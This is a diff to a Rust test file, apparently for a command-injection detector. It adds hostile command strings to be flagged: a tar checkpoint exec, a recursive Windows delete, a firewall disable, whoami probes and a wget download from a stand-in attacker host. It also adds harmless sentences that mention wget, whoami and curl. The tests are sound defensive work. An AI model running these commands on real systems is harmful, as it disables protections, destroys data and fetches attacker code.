@@ -1499,6 +1499,9 @@ fn second_hunt_shapes() {
             "--checkpoint=1 --checkpoint-action=exec=sh shell.sh",
             "&cmd/c whoami",
             "& rd /s /q C:\\data",
+            "netsh firewall set opmode disable",
+            "wget http://evil.example/x.sh -O /tmp/x",
+            "whoami /all",
         ],
         Class::Cmdi,
     );
@@ -1516,6 +1519,10 @@ fn second_hunt_shapes() {
             "see ./docs for details",
             "Run `chmod +x d/t/cryptdisks` for consistency.",
             "ldap://ldap.corp.example/ou=traders",
+            // (a sentence about a command, not a command line)
+            "wget of the EOD file failed at 6:05am",
+            "whoami on the server returns 'trader', not root",
+            "curl of the yield curve",
         ],
         Context::Auto,
     );
